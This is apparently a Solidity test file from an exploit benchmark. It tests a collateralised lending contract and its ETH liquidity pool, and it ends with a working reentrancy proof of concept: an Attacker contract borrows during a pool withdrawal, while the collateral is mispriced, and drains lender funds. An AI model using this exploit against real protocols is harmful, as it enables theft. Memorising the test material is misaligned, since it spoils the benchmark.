// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./Credit.sol";

// assay-canary-129477d9-4117-442e-8697-8b7698306460

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function deal(address to, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Staked is ERC20("Staked ether", "SETH") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Comes back while it is paid, and insists on being told off.
contract Returner {
    EthPool internal pool;
    bytes internal again;

    constructor(EthPool p, Staked s) payable {
        pool = p;
        s.approve(address(p), type(uint256).max);
    }

    receive() external payable {
        (bool ok, bytes memory why) = address(pool).call(again);
        bytes memory told = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        require(!ok && keccak256(why) == keccak256(told), "let through");
    }

    function go(bytes calldata again_) external {
        again = again_;
        pool.add{value: 1 ether}(1 ether);
        pool.remove(1 ether, 0, 0);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant WRAPPED = address(0xE7E7);
    address internal constant LENDER = address(0x1E4D);
    address internal constant BORROWER = address(0xB044);
    uint256 internal constant START = 1_689_900_000;

    Staked internal staked;
    EthPool internal pool;
    LpOracle internal oracle;
    Credit internal credit;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        staked = new Staked();
        pool = new EthPool(WRAPPED, address(staked));
        oracle = new LpOracle();
        oracle.setPool(pool, true);
        credit = new Credit(staked, pool, oracle);
        credit.setCap(10_000 ether);

        staked.mint(LENDER, 4_100 ether);
        vm.startPrank(LENDER);
        staked.approve(address(credit), type(uint256).max);
        credit.lend(4_000 ether);
        vm.stopPrank();

        vm.deal(BORROWER, 700 ether);
        staked.mint(BORROWER, 800 ether);
        vm.startPrank(BORROWER);
        staked.approve(address(pool), type(uint256).max);
        staked.approve(address(credit), type(uint256).max);
        pool.approve(address(credit), type(uint256).max);
        pool.add{value: 500 ether}(500 ether);
        vm.stopPrank();

        thief = new Attacker(pool, credit, staked);
        vm.deal(address(thief), 20_000 ether);
        staked.mint(address(thief), 20_000 ether);
    }

    /// The borrower pledges shares and borrows.
    function draw(uint256 s, uint256 a) internal {
        vm.startPrank(BORROWER);
        credit.pledge(s);
        credit.borrow(a);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(BORROWER);
        require(pool.swap(1, 100 ether, 99 ether) == 99.96 ether, "swapped");
        require(BORROWER.balance == 299.96 ether, "ether");
        require(pool.swap{value: 1 ether}(0, 1 ether, 0) == 0.9996 ether, "and back");
        vm.stopPrank();
        pool.collect();
        require(staked.balanceOf(address(this)) == 0.02 ether, "keeper");

        draw(100 ether, 70 ether);
        require(credit.debtOf(BORROWER) == 70 ether && credit.cash() == 3_930 ether, "borrowed");
        vm.warp(START + 20 days);
        vm.startPrank(BORROWER);
        credit.roll();
        require(credit.repay(BORROWER, 20 ether) == 20 ether, "a part");
        credit.unpledge(10 ether);
        vm.stopPrank();
        require(credit.reserves() > 0 && credit.assets() > 4_000 ether, "interest");

        vm.warp(START + 51 days);
        credit.accrue();
        uint256 d = credit.debtOf(BORROWER);
        require(d > 50 ether && d < 50.2 ether, "the rest");
        vm.startPrank(LENDER);
        uint256 s = credit.seize(BORROWER, d + 1 ether);
        require(s > 52.5 ether && s < 52.8 ether && pool.balanceOf(LENDER) == s, "shares");
        require(credit.debtOf(BORROWER) == 0, "nothing owed");
        pool.remove(10 ether, 4 ether, 5 ether);
        require(LENDER.balance > 4 ether, "removed");
        s = credit.balanceOf(LENDER);
        require(credit.unlend(s / 2) > 2_000 ether, "with interest");
        vm.stopPrank();
        uint256 r = credit.reserves();
        credit.skim(r);
        require(staked.balanceOf(address(this)) == 0.02 ether + r, "skimmed");

        // a debt that its shares do not pay any more
        vm.prank(BORROWER);
        credit.unpledge(10 ether);
        vm.prank(BORROWER);
        credit.borrow(15 ether);
        vm.warp(START + 51 days + 36500 days);
        vm.startPrank(LENDER);
        credit.seize(BORROWER, 10 ether);
        credit.seize(BORROWER, 100 ether);
        vm.stopPrank();
        (uint256 left, , , ) = credit.lines(BORROWER);
        require(left == 0 && credit.debtOf(BORROWER) > 1 ether, "all is seized");
        r = credit.reserves();
        credit.writeOff(BORROWER);
        require(credit.debtOf(BORROWER) == 0 && credit.reserves() < r, "written off");

        credit.approve(LENDER, 1);
        credit.increaseAllowance(LENDER, 1);
        credit.decreaseAllowance(LENDER, 2);
        vm.startPrank(LENDER);
        credit.transfer(BORROWER, 2);
        credit.approve(address(this), 1);
        vm.stopPrank();
        credit.transferFrom(LENDER, BORROWER, 1);
        require(credit.balanceOf(BORROWER) == 3, "shares move");
        credit.pause();
        credit.unpause();
        oracle.setPool(pool, false);
        oracle.transferOwnership(LENDER);
        credit.transferOwnership(LENDER);
        vm.startPrank(LENDER);
        oracle.acceptOwnership();
        credit.acceptOwnership();
        oracle.renounceOwnership();
        credit.renounceOwnership();
        vm.stopPrank();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(LENDER);
        bytes memory why = "Ownable: caller is not the owner";
        vm.expectRevert(why);
        oracle.setPool(pool, false);
        vm.expectRevert(why);
        credit.setCap(0);
        vm.expectRevert(why);
        credit.skim(0);
        vm.expectRevert(why);
        credit.pause();
        vm.stopPrank();
        credit.pause();
        why = "Pausable: paused";
        vm.prank(LENDER);
        vm.expectRevert("Ownable: caller is not the owner");
        credit.unpause();
        vm.prank(LENDER);
        vm.expectRevert(why);
        credit.lend(1 ether);
        vm.prank(BORROWER);
        vm.expectRevert(why);
        credit.borrow(1 ether);
    }

    function test_RefusesASecondVisit() public {
        vm.deal(address(this), 3 ether);
        Returner r = new Returner{value: 3 ether}(pool, staked);
        staked.mint(address(r), 3 ether);
        r.go(abi.encodeCall(pool.add, (0)));
        r.go(abi.encodeCall(pool.remove, (0, 0, 0)));
        r.go(abi.encodeCall(pool.swap, (1, 0, 0)));
    }

    function test_RefusesPoolCalls() public {
        EthPool other = new EthPool(WRAPPED, address(staked));
        vm.expectRevert(EthPool.Small.selector);
        other.add(0);
        refuses(BORROWER, EthPool.Small.selector);
        pool.add(0);
        refuses(BORROWER, EthPool.Slip.selector);
        pool.add{value: 1 ether}(1 ether - 1);
        refuses(BORROWER, EthPool.Slip.selector);
        pool.remove(1 ether, 0.5 ether + 1, 0);
        refuses(BORROWER, EthPool.Slip.selector);
        pool.remove(1 ether, 0, 0.5 ether + 1);
        refuses(BORROWER, EthPool.Value.selector);
        pool.swap{value: 1 ether}(0, 2 ether, 0);
        refuses(BORROWER, EthPool.Value.selector);
        pool.swap{value: 1}(1, 1 ether, 0);
        refuses(BORROWER, EthPool.Slip.selector);
        pool.swap(1, 1 ether, 1 ether);
        refuses(BORROWER, EthPool.Empty.selector);
        pool.swap(1, 501 ether, 0);
        vm.prank(BORROWER);
        pool.transfer(address(staked), 1 ether);
        refuses(address(staked), EthPool.Send.selector);
        pool.remove(1 ether, 0, 0);
    }

    function test_RefusesPools() public {
        EthPool other = new EthPool(address(staked), WRAPPED);
        vm.expectRevert(Credit.BadPool.selector);
        new Credit(staked, other, oracle);
        vm.expectRevert(LpOracle.Unknown.selector);
        oracle.valueOf(other, 1);
    }

    function test_RefusesLenders() public {
        refuses(LENDER, Credit.Zero.selector);
        credit.lend(0);
        draw(100 ether, 70 ether);
        uint256 s = credit.balanceOf(LENDER);
        refuses(LENDER, Credit.Cash.selector);
        credit.unlend(s);
        vm.expectRevert();
        credit.skim(1);
    }

    function test_RefusesLines() public {
        draw(100 ether, 70 ether);
        refuses(BORROWER, Credit.Limit.selector);
        credit.borrow(10.1 ether);
        refuses(BORROWER, Credit.Limit.selector);
        credit.unpledge(20 ether);
        refuses(BORROWER, Credit.Zero.selector);
        credit.repay(BORROWER, 0);
        refuses(LENDER, Credit.Sound.selector);
        credit.seize(BORROWER, 1 ether);
        refuses(LENDER, Credit.Backed.selector);
        credit.writeOff(BORROWER);
        refuses(LENDER, Credit.NoDebt.selector);
        credit.writeOff(LENDER);
        refuses(LENDER, Credit.NoDebt.selector);
        credit.roll();
        credit.setCap(71 ether);
        refuses(BORROWER, Credit.OverCap.selector);
        credit.borrow(2 ether);
        refuses(LENDER, Credit.Small.selector);
        credit.borrow(1 ether - 1);
        vm.warp(START + 31 days);
        refuses(BORROWER, Credit.Overdue.selector);
        credit.borrow(0.1 ether);
        refuses(BORROWER, Credit.Overdue.selector);
        credit.roll();
    }

    /// Above the limit, by interest alone.
    function test_RefusesToRollAboveTheLimit() public {
        draw(100 ether, 79.99 ether);
        vm.warp(START + 29 days);
        refuses(BORROWER, Credit.Limit.selector);
        credit.roll();
    }

    /// Above the threshold, though not overdue: all is lent out, and the rate is high.
    function test_RefusesNoSeizureAboveTheThreshold() public {
        draw(100 ether, 79.99 ether);
        vm.startPrank(LENDER);
        credit.unlend((credit.balanceOf(LENDER) * 98) / 100);
        vm.warp(START + 29 days);
        credit.accrue();
        require(credit.debtOf(BORROWER) > 82 ether, "above the threshold");
        require(credit.seize(BORROWER, 1 ether) > 1 ether, "seized");
        vm.stopPrank();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = lendersCover();
        exploit();
        require(lendersCover() + 1_700 ether <= before, "nothing lost");
        require(address(thief).balance + staked.balanceOf(address(thief)) > 41_700 ether, "nothing gained");
    }

    /// What is there for the lenders: cash, and the pledged shares of all borrowers at their price.
    function lendersCover() public view returns (uint256) {
        return staked.balanceOf(address(credit)) + (pool.balanceOf(address(credit)) * pool.price()) / 1e18;
    }

    function target() public view returns (address) {
        return address(credit);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Borrows between the ether and the tokens of a removal.
contract Attacker {
    EthPool internal pool;
    Credit internal credit;
    Staked internal staked;
    bool internal leaving;

    constructor(EthPool p, Credit c, Staked s) {
        pool = p;
        credit = c;
        staked = s;
    }

    function run() external {
        staked.approve(address(pool), 20_000 ether);
        pool.approve(address(credit), 2_000 ether);
        uint256 shares = pool.add{value: 20_000 ether}(20_000 ether);
        credit.pledge(2_000 ether);
        leaving = true;
        pool.remove(shares - 2_000 ether, 0, 0);
        leaving = false;
    }

    receive() external payable {
        if (leaving) credit.borrow(credit.cash());
    }
}
